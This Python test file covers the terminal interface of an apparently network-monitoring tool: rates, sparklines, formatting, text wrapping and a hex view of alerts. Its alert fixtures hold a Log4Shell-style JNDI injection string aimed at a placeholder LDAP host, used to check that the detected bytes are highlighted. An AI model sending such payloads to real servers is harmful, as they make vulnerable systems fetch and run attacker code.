"""The small pieces: rates, sparkline, header, hex view, wrapping, words."""

from __future__ import annotations

from collections import deque

import pytest

from aegis_tui.widgets.bars import arrange, bits, header_items
from aegis_tui.widgets.hexview import dump, hex_lines
from aegis_tui.widgets.line import fit_ends, line, paragraph, plain, wrap
from aegis_tui.widgets.rates import Rates, sparkline
from aegis_tui.widgets.words import count, since, span
from engine.types import Counters
from tests.aegis_tui import scenario
from tests.aegis_tui.console import replay


def test_rates_are_differences_over_engine_time() -> None:
    rates = Rates()
    rates.add(10, Counters(delivered=100, bytes=1000))
    rates.add(10.5, Counters(delivered=900, bytes=1000))
    rates.add(12, Counters(delivered=300, bytes=3000))
    assert (rates.packets_per_s, rates.bits_per_s) == (100, 8000)


def test_a_sparkline_scales_to_its_highest_sample() -> None:
    assert sparkline(deque([0, 4, 8]), 4) == " ▁▅█"


@pytest.mark.parametrize(("number", "word"), [(812, "812"), (1234, "1.2k"), (48_000_000, "48M"), (0, "0")])
def test_counts_are_short(number: int, word: str) -> None:
    assert count(number) == word


@pytest.mark.parametrize(
    ("seconds", "word"), [(42, "42s"), (2466, "41m"), (3600, "1h"), (90_300, "25h 05m"), (9e9, "104166d 16h")]
)
def test_spans_name_their_largest_units(seconds: float, word: str) -> None:
    assert span(seconds) == word


def test_permanent_is_a_word() -> None:
    assert (span(float("inf")), bits(9_800_000)) == ("permanent", "9.8 Mb/s")


def test_the_header_says_that_a_replay_cannot_block() -> None:
    words = " ".join(plain(item.short) for item in header_items(replay(), Rates(), ""))
    assert "blocking off" in words


def test_hits_of_an_alert_are_the_bytes_of_its_span() -> None:
    shown = dump(scenario.alert())
    hit = bytes(byte for at, byte in enumerate(shown.captured) if at in shown.hits)
    assert hit == b"${jndi:ldap://203.0.113.9:1389/a}"


def test_an_excerpt_that_is_not_in_the_window_is_marked_nowhere() -> None:
    found = scenario.alert()
    moved = scenario.alert(flow=scenario.flow(head=(b"other", b"")), detection=found.detection)
    assert dump(moved).hits == frozenset()


@pytest.mark.parametrize("width", [42, 80])
def test_hex_rows_fit_their_pane(width: int) -> None:
    rows = hex_lines(dump(scenario.alert()), width)
    assert len({plain(row).index("│") for row in rows}) == 1
    assert max(len(plain(row)) for row in rows) <= width


def test_wrapping_keeps_every_word_and_the_indent() -> None:
    rows = wrap(paragraph("one two three four", indent=2), 8)
    assert [plain(row).rstrip() for row in rows] == ["one two", "  three", "  four"]


def test_a_word_longer_than_the_pane_is_broken() -> None:
    assert all(len(plain(row)) <= 20 for row in wrap(paragraph("x" * 100), 20))


@pytest.mark.parametrize("char", ["x", "中"])
def test_a_word_of_a_million_characters_is_wrapped_in_one_pass(char: str) -> None:
    """Where each piece had the rest measured anew, this would take hours."""
    rows = wrap(paragraph(char * 1_000_000, max_rows=2_000_000), 80)
    assert "".join(map(plain, rows)) == char * 1_000_000


def test_wrapping_says_how_much_it_left_out() -> None:
    rows = wrap(paragraph("word " * 50, max_rows=3), 10)
    assert (len(rows), plain(rows[-1]).startswith("… +")) == (3, True)


def test_a_line_is_made_of_spans() -> None:
    assert plain(line("a", ("b", "bold"))) == "ab"


@pytest.mark.parametrize(
    ("text", "width", "shown"),
    [
        ("2001:db8:85a3:8d3:1319:8a2e:370:7344", 15, "2001:db…70:7344"),
        ("203.0.113.9", 15, "203.0.113.9    "),
        ("203.0.113.9", 4, "203…"),
    ],
)
def test_an_address_is_cut_in_the_middle(text: str, width: int, shown: str) -> None:
    assert fit_ends(text, width) == shown


@pytest.mark.parametrize("width", [80, 120, 200])
def test_the_clock_stands_at_the_right_edge(width: int) -> None:
    shown = plain(arrange(header_items(scenario.snapshot(), Rates(), ""), width, line("09:02:11 UTC")))
    assert (len(shown), shown.endswith("09:02:11 UTC")) == (width, True)


def test_who_decides_is_told_in_full_where_shorter_words_elsewhere_make_room() -> None:
    watching = scenario.snapshot(status=scenario.status(consoles=2, decider="ann on pts/3"))
    shown = plain(arrange(header_items(watching, Rates(), ""), 120, line("09:02:11 UTC")))
    assert "watching: ann on pts/3 decides; D takes over" in shown


@pytest.mark.parametrize("width", [38, 42, 75])
def test_hex_rows_show_the_text_beside_the_bytes_at_every_width(width: int) -> None:
    rows = hex_lines(dump(scenario.alert()), width)
    assert max(len(plain(row)) for row in rows) <= width
    assert "".join(plain(row).split("│")[1] for row in rows).startswith("GET /?x=${jndi:ldap://203.0.113.9")


@pytest.mark.parametrize(
    ("ago", "words"), [(0.0, "09:02"), (86_399.0, "09:02"), (86_400.0, "10-08"), (scenario.NOW + 1, "—")]
)
def test_a_moment_of_another_day_is_told_by_its_date(ago: float, words: str) -> None:
    assert since(scenario.NOW - ago, scenario.NOW) == words
